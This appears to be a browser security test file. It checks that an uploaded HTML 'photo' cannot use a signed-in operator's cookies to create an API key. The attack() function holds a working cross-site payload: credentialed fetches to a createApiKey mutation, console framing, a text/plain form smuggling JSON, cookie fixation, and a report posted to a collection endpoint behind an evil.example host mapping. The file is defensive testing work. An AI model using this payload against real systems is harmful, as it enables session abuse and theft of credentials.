/**
 * A customer has sent an HTML page as a photo, and a signed-in operator opens it. Nothing that it, or any page beside the
 * console, does with the operator's cookies makes a key.
 */
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { graphql } from '../support/api.js';
import { useUpstream } from '../upstream/useUpstream.js';

const { gateway, upstream } = useUpstream(() => ({}));
const operator = () => ({ authorization: `Bearer ${gateway().operatorKey}` });
const UPLOAD = '/clientweb/api/v2/chats/c/files/photo.html';
const DONE = '/clientweb/attack-is-over';
const PATIENCE_MS = 60_000;

/** All that a script can try, at every origin of ours, and at its own; what it learns of it goes to the contact center. */
const attack = () => {
  const query = 'mutation { createApiKey(input: { name: "stolen", role: OPERATOR }) { secret } }';
  const json = JSON.stringify({ query });
  return `<!doctype html><title>photo</title><body><script>(async () => {
    const origins = ${JSON.stringify([gateway().url, gateway().adminUrl])};
    const console_ = { 'x-beckon-console': '1', 'content-type': 'application/json' };
    const tries = origins.flatMap((origin) => ['include', 'same-origin'].flatMap((credentials) => [
      () => fetch(origin + '/graphql', { method: 'POST', credentials, headers: console_, body: ${JSON.stringify(json)} }),
      () => fetch(origin + '/graphql', { method: 'POST', credentials, mode: 'no-cors', body: ${JSON.stringify(json)} }),
      () => fetch(origin + '/graphql?query=' + encodeURIComponent(${JSON.stringify(query)}), { credentials, mode: 'no-cors' }),
      () => fetch(origin + '/console/api/session', { credentials, headers: console_ }),
      () => new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.onload = frame.onerror = async () => {
          try {
            const inside = frame.contentWindow;
            await inside.fetch('/graphql', { method: 'POST', headers: console_, body: ${JSON.stringify(json)} });
          } catch {}
          resolve();
        };
        frame.src = origin + '/console';
        document.body.append(frame);
        setTimeout(resolve, 3000);
      }),
      () => {
        document.body.insertAdjacentHTML('beforeend', '<iframe name=into></iframe><form method=post target=into enctype=text/plain>' +
          '<input></form>');
        const form = document.body.querySelector('form:last-of-type');
        form.action = origin + '/graphql';
        form.firstChild.name = ${JSON.stringify(json)}.slice(0, -1) + ',"a":"';
        form.firstChild.value = '"}';
        form.submit();
      },
    ]));
    const seen = [];
    for (const one of tries) {
      try {
        const answer = await one();
        if (answer && answer.type !== 'opaque') seen.push(answer.status + ' ' + (await answer.text()));
      } catch {}
    }
    try { document.cookie = '__Host-beckon_console=fixed; Path=/; Secure'; } catch {}
    await fetch('${DONE}', { method: 'POST', body: JSON.stringify(seen) });
  })();</script>`;
};

/** What pages elsewhere are. */
interface Elsewhere {
  /** Of the operator's own host, at another port: the same site, with its cookies. */
  neighbour: string;
  /** Another site altogether. */
  stranger: string;
  /** What the attack that ran here has seen. */
  over: Promise<string[]>;
  close(): void;
}

let browser: Browser | undefined;
let elsewhere: Elsewhere;
beforeAll(async () => {
  browser = await chromium.launch({
    executablePath: process.env['TEST_BROWSER'],
    args: [
      ...['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--no-first-run'],
      '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1',
    ],
  });
  elsewhere = await startElsewhere();
});
afterAll(async () => {
  elsewhere.close();
  await browser?.close();
});

async function startElsewhere(): Promise<Elsewhere> {
  let report: (seen: string[]) => void = () => undefined;
  const over = new Promise<string[]>((resolve) => (report = resolve));
  const server: Server = createServer((request, response) => {
    if (request.url === DONE) {
      let text = '';
      request.setEncoding('utf8').on('data', (part: string) => (text += part));
      request.on('end', () => report(JSON.parse(text) as string[]));
      response.end();
      return;
    }
    const link = `<a href="${gateway().url}${UPLOAD}">The photo</a>`;
    response.setHeader('content-type', 'text/html').end(request.url === '/link' ? link : attack());
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  return {
    neighbour: `http://127.0.0.1:${port}`,
    stranger: `http://evil.example:${port}`,
    over,
    close() {
      server.close();
      server.closeAllConnections();
    },
  };
}

/** A browser in which an operator has signed in, and sees the console. */
async function signedIn(): Promise<{ context: BrowserContext; page: Page }> {
  if (!browser) throw new Error('only inside a test');
  const context = await browser.newContext({ acceptDownloads: true });
  context.setDefaultTimeout(PATIENCE_MS);
  const page = await context.newPage();
  await page.goto(`${gateway().adminUrl}/console`);
  await page.getByLabel('API key').fill(gateway().operatorKey);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('navigation', { name: 'Pages' }).waitFor();
  return { context, page };
}

/** The contact center gives out what it was sent, once, as it says. */
function giveOut(headers: Record<string, string>): void {
  upstream().answerNext(/photo\.html/, (_request, response) => {
    response.writeHead(200, headers).end(attack());
  });
}

async function expectNothingMade(context: BrowserContext): Promise<void> {
  const { data } = await graphql<{ apiKeys: { edges: unknown[] } }, object>(
    gateway().url,
    operator(),
    '{ apiKeys(first: 10) { edges { node { name } } } }',
    {},
  );
  expect(data?.apiKeys.edges).toEqual([]);
  expect(upstream().received.filter(({ url }) => url.includes(DONE))).toEqual([]);
  // The operator is still signed in, as whoever he was.
  const page = await context.newPage();
  await page.goto(`${gateway().adminUrl}/console/keys`);
  await page.getByRole('heading', { name: 'API keys' }).first().waitFor();
}

const AS_DOCUMENT: [string, Record<string, string>][] = [
  ['a page', { 'content-type': 'text/html' }],
  ['a page to be shown', { 'content-type': 'text/html', 'content-disposition': 'inline; filename="photo.html"' }],
  [
    'a page with a policy of its own',
    { 'content-type': 'text/html', 'content-security-policy': 'sandbox allow-scripts' },
  ],
  ['nothing in particular', {}],
];

test.each(AS_DOCUMENT)('an upload that comes as %s is saved, not run, when it is opened', async (_what, headers) => {
  const { context } = await signedIn();
  giveOut(headers);
  const page = await context.newPage();
  const saved = page.waitForEvent('download');
  await page
    .goto(gateway().url + UPLOAD)
    .catch((error: unknown) => expect(String(error)).toMatch(/download|ERR_ABORTED/i));
  expect(new URL((await saved).url()).pathname).toBe(UPLOAD);
  await expectNothingMade(context);
  await context.close();
});

test('nor when a link on another site leads to it', async () => {
  const { context } = await signedIn();
  giveOut({ 'content-type': 'text/html' });
  const page = await context.newPage();
  await page.goto(`${elsewhere.stranger}/link`);
  const saved = page.waitForEvent('download');
  await page.getByRole('link', { name: 'The photo' }).click();
  expect(new URL((await saved).url()).pathname).toBe(UPLOAD);
  await expectNothingMade(context);
  await context.close();
});

test.each([401, 404, 500])('a page that comes as a %i is shown, and runs nothing', async (status) => {
  const { context } = await signedIn();
  upstream().answerNext(/photo\.html/, (_request, response) => {
    response.writeHead(status, { 'content-type': 'text/html' }).end(`${attack()}<p>It was shown</p>`);
  });
  const page = await context.newPage();
  const blocked = page.waitForEvent('console', (message) => message.text().includes('sandboxed'));
  const answer = await page.goto(gateway().url + UPLOAD);
  expect(await answer?.headerValue('content-security-policy')).toBe('sandbox');
  await page.getByText('It was shown').waitFor();
  await blocked;
  await expectNothingMade(context);
  await context.close();
});

test('a text is shown as what it is', async () => {
  const { context } = await signedIn();
  giveOut({ 'content-type': 'text/plain' });
  const page = await context.newPage();
  await page.goto(gateway().url + UPLOAD);
  expect(await page.locator('pre').textContent()).toContain('<script>');
  await expectNothingMade(context);
  await context.close();
});

test('a script that does run, at another port of the same host, finds no way in', async () => {
  const { context } = await signedIn();
  const page = await context.newPage();
  await page.goto(elsewhere.neighbour);
  const seen = await elsewhere.over;
  // At its best it was told that it is nobody.
  expect(seen.filter((text) => !/^(?:401|403|404) /.test(text))).toEqual([]);
  await expectNothingMade(context);
  await context.close();
});
